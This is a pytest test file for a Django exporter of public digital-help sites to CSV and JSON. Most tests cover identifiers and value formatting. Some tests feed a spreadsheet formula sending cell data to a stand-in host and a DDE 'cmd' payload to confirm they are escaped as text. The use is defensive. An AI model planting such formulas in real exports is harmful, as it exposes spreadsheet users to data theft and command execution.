import csv
import io
import json

import pytest
from django.core.management import call_command

from cnum.sites.exporters import lieux_v1
from tests.sites.factories import SiteFactory, structure

pytestmark = pytest.mark.usefixtures("cog")


def export_rows(**options):
    buffer = io.StringIO()
    result = lieux_v1.write_csv(buffer, lieux_v1.export_queryset(), **options)
    return result, list(csv.DictReader(io.StringIO(buffer.getvalue())))


def test_a_site_without_any_known_siret_is_left_out_and_counted():
    SiteFactory(pivot="43493312300029")
    SiteFactory(pivot="", structure=structure(identifier="W691234567"))
    SiteFactory(pivot="")
    SiteFactory(pivot="", structure=structure(identifier="", name="Sans identifiant"))
    SiteFactory(pivot="77556026100015", unpublished=True)
    result, rows = export_rows()
    assert [row["pivot"] for row in rows] == ["43493312300029", "W691234567"]
    assert result.written == 2
    assert result.excluded == {lieux_v1.NO_PIVOT: 2}


def test_the_zeros_convention_is_only_written_when_asked():
    SiteFactory(pivot="")
    result, rows = export_rows(unknown_pivot="zeros")
    assert [row["pivot"] for row in rows] == ["00000000000000"] and not result.excluded


def test_values_the_schema_would_refuse_are_left_empty_and_counted_never_invented():
    site = SiteFactory(pivot="43493312300029", phone="+4420794600", services=["Aide aux démarches administratives"])
    site.mobility = ["Sur roues"]
    site.save()
    result, rows = export_rows()
    assert rows[0]["telephone"] == "" and rows[0]["itinerance"] == ""
    assert rows[0]["services"] == "Aide aux démarches administratives"
    assert result.blanked == {"telephone": 1, "itinerance": 1}


def test_multi_values_are_joined_with_pipes_and_dates_written_iso():
    SiteFactory(
        pivot="43493312300029",
        services=["Aide aux démarches administratives", "Utilisation sécurisée du numérique"],
        emails=["a@exemple.fr", "b@exemple.fr"],
    )
    _result, rows = export_rows()
    assert rows[0]["services"] == "Aide aux démarches administratives|Utilisation sécurisée du numérique"
    assert rows[0]["courriels"] == "a@exemple.fr|b@exemple.fr"
    assert rows[0]["date_maj"] == "2025-01-15" and rows[0]["code_insee"] == "69123"


def test_the_command_writes_json_and_says_what_it_left_out(tmp_path):
    SiteFactory(pivot="43493312300029")
    SiteFactory(pivot="")
    out = io.StringIO()
    path = tmp_path / "lieux.json"
    call_command("export_sites", "--format", "lieux-v1-json", "--output", str(path), stdout=out)
    assert "1 lieu écrit dans" in out.getvalue()
    assert "1 : pivot (SIRET, RNA ou RIDET) inconnu, alors que le schéma l'exige" in out.getvalue()
    record = json.loads(path.read_text(encoding="utf-8"))[0]
    assert record["pivot"] == "43493312300029" and record["typologie"] == [] and record["telephone"] is None


FORMULA_NAME = '=HYPERLINK("https://exemple.invalid/?vol="&A1;"Cliquez")'


def test_a_site_named_like_a_formula_is_exported_as_text_by_export_sites(tmp_path):
    SiteFactory(pivot="43493312300029", name=FORMULA_NAME, phone="+33180056789", longitude=-1.5536)
    path = tmp_path / "lieux.csv"
    call_command("export_sites", "--format", "lieux-v1-csv", "--output", str(path), stdout=io.StringIO())
    row = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert row["nom"] == "'" + FORMULA_NAME
    # What the national schema requires stays valid: a "+33" phone and a negative longitude are numbers, not formulas.
    assert row["telephone"] == "+33180056789" and row["longitude"] == "-1.5536"


def test_a_site_named_like_a_formula_is_published_as_text_by_opendata_export(tmp_path):
    SiteFactory(pivot="43493312300029", name="@SUM(1+1)*cmd|' /C calc'!A0")
    call_command("opendata_export", "--output", str(tmp_path), "--to", "2025-01", stdout=io.StringIO())
    row = next(csv.DictReader(io.StringIO((tmp_path / "lieux.csv").read_text(encoding="utf-8"))))
    assert row["nom"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_json_export_keeps_the_name_as_it_is(tmp_path):
    SiteFactory(pivot="43493312300029", name=FORMULA_NAME)
    path = tmp_path / "lieux.json"
    call_command("export_sites", "--format", "lieux-v1-json", "--output", str(path), stdout=io.StringIO())
    assert json.loads(path.read_text(encoding="utf-8"))[0]["nom"] == FORMULA_NAME
